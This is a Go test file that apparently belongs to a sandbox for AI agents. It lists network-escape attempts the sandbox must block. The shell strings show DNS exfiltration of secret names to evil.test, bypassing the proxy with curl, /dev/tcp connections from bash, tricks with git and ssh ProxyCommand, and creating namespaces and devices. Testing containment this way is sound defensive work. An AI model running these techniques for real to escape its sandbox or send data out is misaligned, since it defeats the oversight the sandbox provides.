//go:build linux

package escape_test

import (
	"net"
	"strconv"
	"strings"

	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/testnet"
)

// direct returns attempts to bypass the proxy.
func direct() []escape {
	dial := func(h *host) {
		h.vars["port"] = h.listenTCP()
		c, err := (&net.ListenConfig{}).ListenPacket(h.t.Context(), "udp", "127.0.0.1:0")
		h.must(err)
		h.vars["udp"] = strconv.Itoa(c.LocalAddr().(*net.UDPAddr).Port)
		h.closers = append(h.closers, func() { _ = c.Close() })
	}
	silent := &testnet.Limits{Silent: true}
	list := rules("allowed.test", "*.allowed.test:1-65535")
	hostNet := control{Flags: []string{"--network=host"}}
	return []escape{
		{
			ID: "E22.1", Name: "without a network there is no interface but the loopback", Matrix: "TCP host loopback",
			Go: []string{"interface"}, Control: control{Flags: []string{"--network=host"}, If: hasOnlyLoopback},
		},
		{
			ID: "E22.2", Name: "without a network the host's loopback is not reached", Matrix: "TCP host loopback", Setup: dial,
			Go:      []string{"connect", "tcp", "127.0.0.1:{port}", "tcp", "localhost:{port}", "tcp", "[::ffff:127.0.0.1]:{port}"},
			Control: hostNet,
		},
		{
			ID: "E22.3", Name: "without a network no name is resolved and no address reached", Setup: dial,
			Go:      []string{"connect", "tcp", "192.0.2.1:80", "tcp", "127.0.0.1:{port}", "tcp", "[2001:db8::1]:80", "tcp", "169.254.169.254:80"},
			Control: hostNet,
		},
		{
			ID: "E22.4", Name: "with an allow-list there is no interface but the loopback", Matrix: rowDirect, Flags: list, Net: silent,
			Go: []string{"interface"}, Control: control{},
		},
		{
			ID: "E22.5", Name: "no resolver is asked but by the proxy, so that no name carries anything out", Matrix: rowDirect, Flags: list, Net: silent,
			Sh: `{attacker} direct dns 127.0.0.1:53 dns 9.9.9.9:53 dns [2620:fe::fe]:53 dns 169.254.169.254:53 tcp 127.0.0.1:53 tcp 93.184.216.53:53
				getent ahosts secret1.evil.test && echo OPEN getent; getent hosts secret2.allowed.test | grep -v '^198[.]18[.]' && echo OPEN getent
				curl -s --noproxy '*' --max-time 3 http://secret3.evil.test/; true`,
		},
		{
			ID: "E22.6", Name: "no protocol leads out: UDP, QUIC, ICMP, SCTP, DCCP, raw, and none of them on IPv6", Matrix: rowDirect, Flags: list, Net: silent,
			Go: everyProtocol("93.184.216.10:443", "[2606:2800:220:1::10]:443", "169.254.169.254:80", "192.168.7.7:443", "[fd12:3456::7]:443", "224.0.0.251:5353", "255.255.255.255:67"),
		},
		{
			ID: "E22.7", Name: "no interface, address, route or tunnel can be made", Matrix: rowDirect, Flags: list, Net: silent,
			Sh: `PATH=$PATH:/usr/sbin:/sbin
				for add in 'link add esc0 type dummy' 'link add esc0 type veth peer name esc1' 'link add esc0 type bridge' 'tuntap add esc0 mode tun' 'addr add 93.184.215.77/32 dev lo' \
					'route add 93.184.216.0/24 dev lo' '-6 route add 2606:2800::/32 dev lo' 'rule add from all lookup main pref 7' 'neigh add 93.184.215.7 lladdr 2:0:0:0:0:1 dev lo'; do
					ip $add && echo OPEN ip $add && ip $(echo $add | sed s/add/del/)
				done; ip link set lo down && echo OPEN lo down && ip link set lo up
				ls /dev/net/tun && echo OPEN /dev/net/tun; true`,
			Control: control{Root: true},
		},
		{
			ID: "E22.8", Name: "interfaces in a network namespace of one's own lead nowhere", Matrix: rowDirect, Flags: append(list, "--userns"), Net: silent,
			Sh: `PATH=$PATH:/usr/sbin:/sbin; unshare -Urn sh -c '
				ip link set lo up; ip link add v0 type veth peer name v1; ip addr add 93.184.215.1/24 dev v0; ip link set v0 up; ip link set v1 up; ip route add default via 93.184.215.2
				ip link set v1 netns 1 && echo OPEN a device in the namespace around; ip link add v2 type veth peer name v3 netns 1 && echo OPEN a device there
				nsenter -t 1 -n true && [ "$(readlink /proc/1/ns/net)" != "$(readlink /proc/self/ns/net)" ] && nsenter -t 1 -n ip link add v4 type dummy && echo OPEN a device made there
				{attacker} interface >/dev/null; {attacker} direct tcp 93.184.216.10:80 tcp 127.0.0.1:7001 tcp 127.0.0.1:3128; true'`,
			Control: control{None: "such a namespace leads nowhere without a sandbox either"},
		},
		{
			ID: "E22.9", Name: "without the proxy's variables the rules are the same", Matrix: rowDirect, Flags: list,
			Net: &testnet.Limits{Good: []string{"allowed.test"}},
			Sh: `{attacker} follow direct http://evil.test/ https://evil.test/ http://` + testnet.EvilAddr + `/ 'http://allowed.test/?redirect=http://evil.test/' 'https://allowed.test/?redirect=http://` + testnet.EvilAddr + `/'
				for c in 'env -i curl' 'env NO_PROXY=* no_proxy=* curl' 'curl --noproxy *' 'env -u http_proxy -u ALL_PROXY -u all_proxy curl' 'curl -x http://` + testnet.EvilAddr + `:80' 'curl -x socks5h://` + testnet.EvilAddr + `:80'; do
					set -f; $c -sk --max-time 3 http://evil.test/ | grep forbidden && echo OPEN $c; $c -sk --max-time 3 http://` + testnet.EvilAddr + `/ | grep forbidden && echo OPEN $c; done; true`,
		},
		{
			ID: "E22.10", Name: "commands that git and ssh connect with find no other way", Matrix: rowDirect, Flags: rules("allowed.test"), Net: silent,
			Sh: `agent-sandbox connect evil.test 22 </dev/null; agent-sandbox connect 127.0.0.1 7001 </dev/null; agent-sandbox connect allowed.test 22 </dev/null
				HTTP_PROXY=http://` + testnet.EvilAddr + `:80 agent-sandbox connect allowed.test 80 </dev/null
				bash -c 'exec 3<>/dev/tcp/` + testnet.EvilAddr + `/22' && echo OPEN bash
				bash -c 'exec 3<>/dev/tcp/127.0.0.1/7001' && echo OPEN bash
				ssh='ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -F none'
				git ls-remote ssh://git@evil.test/x; GIT_SSH_COMMAND="$ssh" git ls-remote ssh://git@` + testnet.EvilAddr + `/x
				GIT_SSH_COMMAND="$ssh -o ProxyCommand='bash -c \"exec 3<>/dev/tcp/` + testnet.EvilAddr + `/22; timeout 1 cat <&3\"'" git ls-remote ssh://git@evil.test/x
				printf '#!/bin/sh\n{attacker} direct tcp ` + testnet.EvilAddr + `:22 >&2\n' >proxy; chmod +x proxy; GIT_PROXY_COMMAND=$PWD/proxy git ls-remote git://evil.test/x; true`,
		},
	}
}

// everyProtocol returns the arguments of attempts with all protocols on all addresses.
func everyProtocol(addrs ...string) []string {
	out := []string{"direct"}
	for _, kind := range []string{"tcp", "mptcp", "fastopen", "udp", "udplite", "ping", "sctp", "dccp", "raw", "header"} {
		for _, a := range addrs {
			if kind == "header" && strings.HasPrefix(a, "[") {
				continue
			}
			out = append(out, kind, a)
		}
	}
	return out
}
